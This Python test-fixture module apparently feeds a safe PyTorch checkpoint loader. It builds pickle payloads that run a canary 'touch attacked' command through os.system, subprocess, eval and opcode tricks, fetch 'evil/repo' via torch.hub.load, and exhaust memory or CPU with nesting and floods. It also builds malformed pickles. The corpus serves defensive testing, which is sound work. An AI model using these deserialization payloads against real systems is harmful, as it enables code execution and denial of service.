"""Pickles that would run something, take all memory or never end, by name."""

from __future__ import annotations

import struct

from attack_files import (
    call,
    honest_legacy,
    many,
    mapping,
    module,
    name,
    number,
    numbers,
    storage,
    tensor,
    text,
    torch_zip,
)

CANARY = "attacked"
"""The file that every command here would make in the current folder."""

COMMAND = text(f"touch {CANARY}")
PYTHON = text(f"open({CANARY!r}, 'w').close()")
SYSTEM = text("system")
SOUND = tensor()


def with_sound(value: bytes) -> bytes:
    """An attack beside a state dict that would be read."""
    return torch_zip(mapping(state_dict=mapping(weight=SOUND), more=value))


CODE: dict[str, bytes] = {
    "os.system": torch_zip(call("os.system", COMMAND)),
    "posix.system": torch_zip(call("posix.system", COMMAND)),
    "os.popen of Python 2": torch_zip(call("os.popen", COMMAND)),
    "subprocess": torch_zip(call("subprocess.check_output", COMMAND)),
    "eval": torch_zip(call("builtins.eval", PYTHON)),
    "exec of Python 2": torch_zip(call("__builtin__.exec", PYTHON)),
    "compile": torch_zip(call("builtins.compile", PYTHON, text(""), text("exec"))),
    "open for writing": torch_zip(call("builtins.open", text(CANARY), text("w"))),
    "INST": torch_zip(b"(" + COMMAND + b"ios\nsystem\n"),
    "OBJ": torch_zip(b"(" + name("os.system") + COMMAND + b"o"),
    "NEWOBJ": torch_zip(name("subprocess.Popen") + many(COMMAND) + b"\x81"),
    "NEWOBJ_EX": torch_zip(name("subprocess.Popen") + many(COMMAND) + mapping(shell=b"\x88\x92")),
    "BUILD of a function": torch_zip(name("a.b") + mapping(__globals__=COMMAND) + b"b"),
    "BUILD of a class": torch_zip(name("a.B") + b")\x81" + mapping(__class__=COMMAND) + b"b"),
    "EXT1": torch_zip(b"\x82\x01" + many(COMMAND) + b"R"),
    "EXT4": torch_zip(b"\x84\1\0\0\0" + many(COMMAND) + b"R"),
    "import and getattr": torch_zip(
        call("builtins.getattr", call("builtins.__import__", text("os")), text("system"))
    ),
    "getattr of a name": torch_zip(
        call("builtins.getattr", call("builtins.getattr", name("email.utils"), text("os")), SYSTEM)
        + many(COMMAND)
        + b"R"
    ),
    "getattr of a call": torch_zip(
        call("builtins.getattr", call("a.b"), text("system")) + many(COMMAND) + b"R"
    ),
    "getattr computed": torch_zip(call("builtins.getattr", name("a.b"), call("a.c"))),
    "names on the stack": torch_zip(text("os") + text("system") + b"\x93" + many(COMMAND) + b"R"),
    "names from the memo": torch_zip(
        text("os") + b"q\0" + text("system") + b"q\1" + b"h\0h\1\x93" + many(COMMAND) + b"R"
    ),
    "names computed": torch_zip(
        call("operator.add", text("o"), text("s")) + text("system") + b"\x93" + many(COMMAND) + b"R"
    ),
    "dotted name": torch_zip(
        b"\x80\4" + text("email.utils") + text("os.system") + b"\x93" + many(COMMAND) + b"R"
    ),
    "beside a state dict": with_sound(call("os.system", COMMAND)),
    "as a key": torch_zip(b"}" + call("os.system", COMMAND) + SOUND + b"s"),
    "as a tensor's hooks": torch_zip(
        mapping(
            weight=call(
                "torch._utils._rebuild_tensor_v2",
                storage(),
                number(0),
                numbers((3, 4)),
                numbers((4, 1)),
                b"\x89",
                call("os.system", COMMAND),
            )
        )
    ),
    "as a storage's type": torch_zip(mapping(weight=tensor(of=storage(kind="os.system")))),
    "behind the end": torch_zip(mapping(weight=SOUND) + b"." + call("os.system", COMMAND)),
    "torch.hub.load": torch_zip(call("torch.hub.load", text("evil/repo"), text("model"))),
    "torch.load": torch_zip(call("torch.load", text(CANARY))),
    "nested pickle": torch_zip(call("torch.storage._load_from_bytes", b"C\x04cos\n")),
    "pickle.loads": torch_zip(call("pickle.loads", b"C\x04cos\n")),
    "execWrapper": torch_zip(call("torch.jit.unsupported_tensor_ops.execWrapper", PYTHON)),
    "runstring": torch_zip(call("numpy.testing._private.utils.runstring", PYTHON, b"}")),
    "guards": torch_zip(call("torch._dynamo.guards.GuardBuilder.get", PYTHON)),
    "wrapper subclass": torch_zip(
        mapping(a=call("torch._utils._rebuild_wrapper_subclass", name("a.B"), numbers((3,))))
    ),
    "device tensor": torch_zip(
        mapping(a=call("torch._utils._rebuild_device_tensor_from_numpy", call("a.b")))
    ),
    "type of a rebuild": torch_zip(
        mapping(a=call("torch._tensor._rebuild_from_type_v2", name("a.b"), name("c.d"), b")", b"N"))
    ),
    "protocol 0": torch_zip(b"cos\nsystem\n(S'touch attacked'\ntR"),
    "in the legacy preamble": b"\x80\x02" + call("os.system", COMMAND) + b"." + honest_legacy(),
    "in the legacy value": honest_legacy().replace(
        b"ccollections\nOrderedDict\n", b"cos\nsystem\n", 1
    ),
    "a bare pickle": b"\x80\x04" + call("os.system", COMMAND) + b".",
}


def doubled(times: int) -> bytes:
    """A value that is a pair of one value, that a pair of one value, and so on."""
    return b")q\0" + b"0h\0h\0\x86q\0" * times


def module_doubled(times: int) -> bytes:
    made = module(parameters=mapping(weight=SOUND)) + b"q\0"
    for _ in range(times):
        made += b"0" + module(mapping(a=b"h\0", b=b"h\0")) + b"q\0"
    return made


def module_in_itself() -> bytes:
    made = name("net.Block") + b")\x81q\0"
    parts = mapping(_parameters=mapping(w=SOUND), _buffers=b"}", _modules=mapping(a=b"h\0"))
    return made + parts + b"b"


FLOOD = 4_000_000

COSTS: dict[str, bytes] = {
    "lists in lists": torch_zip(b"]" * 300_000 + b"a" * 299_999),
    "tuples in tuples": torch_zip(b")" + b"\x85" * 900_000),
    "a deep key": torch_zip(b"})" + b"\x85" * 300_000 + SOUND + b"s"),
    "a wide key": torch_zip(b"}" + doubled(64) + SOUND + b"s"),
    "pairs doubled": torch_zip(doubled(64)),
    "pairs doubled, in a dictionary": torch_zip(mapping(state_dict=doubled(64))),
    "a list in itself": torch_zip(b"]q\0h\0a"),
    "a module in itself": torch_zip(module_in_itself()),
    "modules doubled": torch_zip(module_doubled(59)),
    "modules in modules": torch_zip(
        module(parameters=mapping(w=SOUND))
        + b"q\0"
        + (b"0" + module(mapping(a=b"h\0")) + b"q\0") * 5_000
    ),
    "memo at 4 billion": torch_zip(b"]" + b"r\xff\xff\xff\xff"),
    "memo flooded": torch_zip(b"N" + b"\x94" * FLOOD),
    "memo at a number in digits": torch_zip(b"]p99999999999999999999\n"),
    "flood of lists": torch_zip(b"]" * FLOOD),
    "flood of dictionaries": torch_zip(b"}" * FLOOD),
    "flood of sets": torch_zip(b"\x8f" * FLOOD),
    "flood of marks": torch_zip(b"(" * FLOOD),
    "flood of calls": torch_zip(b"ca\nb\nq\0" + b"h\0)R" * (FLOOD // 4)),
    "flood of names": torch_zip(b"ca\nb\n" * (FLOOD // 4)),
    "flood of long names": torch_zip(text("a." * 70) + b"q\0" + b"h\0h\0\x93" * (FLOOD // 8)),
    "flood of copies": torch_zip(
        mapping(**{f"k{n}": b"N" for n in range(50_000)})
        + b"q\0"
        + b"ccollections\nOrderedDict\nq\1("
        + b"h\1h\0\x85R" * 100_000
        + b"t"
    ),
    "one dictionary everywhere": torch_zip(
        mapping(**{f"k{n}": b"N" for n in range(50_000)})
        + b"q\0"
        + b"ca\nB\nq\1("
        + b"h\1)\x81h\0b" * 100_000
        + b"t"
    ),
    "flood of doubles": torch_zip(b"G\0\0\0\0\0\0\0\0" * 1_500_000),
    "LONG4 of 2 GB": torch_zip(b"\x8b\xff\xff\xff\x7f"),
    "LONG4 of 8 MB": torch_zip(b"\x8b" + struct.pack("<I", 8 << 20) + b"\xff" * (8 << 20)),
    "digits without an end": torch_zip(b"I" + b"9" * (1 << 20)),
    "a number of 60,000 digits": torch_zip(b"L" + b"9" * 60_000 + b"L\n"),
    "string of 2 to the 63": torch_zip(b"\x8d" + b"\xff" * 7 + b"\x7f"),
    "bytes of 2 to the 63": torch_zip(b"\x8e" + b"\xff" * 7 + b"\x7f"),
    "name of 20 MB": torch_zip(b"}" + text("n" * (20 << 20)) + SOUND + b"s"),
    "name of 1 MB": torch_zip(b"}" + text("n" * (1 << 20)) + SOUND + b"s"),
    "name of 60 kB in the machine": torch_zip(name("a." + "b" * 60_000)),
    "pickle of 33 MB": torch_zip(b"N0" * (33 << 19)),
    "60,000 names of one tensor": torch_zip(
        SOUND + b"q\0" + mapping(**{f"t{n}": b"h\0" for n in range(60_000)})
    ),
}

MALFORMED: dict[str, bytes] = {
    "empty pickle": torch_zip(b"", end=b""),
    "only the end": torch_zip(b""),
    "stack underflow": torch_zip(b"000"),
    "no mark": torch_zip(b"t"),
    "short tuple of too few": torch_zip(b"N\x87"),
    "odd items": torch_zip(b"}(N" + b"u"),
    "items of a number": torch_zip(b"K\1(NNu"),
    "append to a number": torch_zip(b"K\1Na"),
    "call of a number": torch_zip(b"K\1)R"),
    "arguments that are none": torch_zip(name("torch._utils._rebuild_tensor_v2") + b"NR"),
    "memo that was never set": torch_zip(b"h\x09"),
    "unknown operation": torch_zip(b"\xff"),
    "buffers outside": torch_zip(b"\x97"),
    "persistent id in text": torch_zip(b"Pabc\n"),
    "persistent id is a number": torch_zip(b"K\1Q"),
    "persistent id is empty": torch_zip(b")Q"),
    "persistent id of a module": torch_zip(many(text("module")) + b"Q"),
    "no line end": torch_zip(b"cos"),
    "bad UTF-8 in a name": torch_zip(b"c\xff\xfe\na\n"),
    "no end": torch_zip(mapping(weight=SOUND), end=b""),
    "no tensors": torch_zip(mapping(epoch=b"K\1")),
    "an object": torch_zip(name("ultralytics.Model") + b")\x81" + mapping(a=b"N") + b"b"),
}
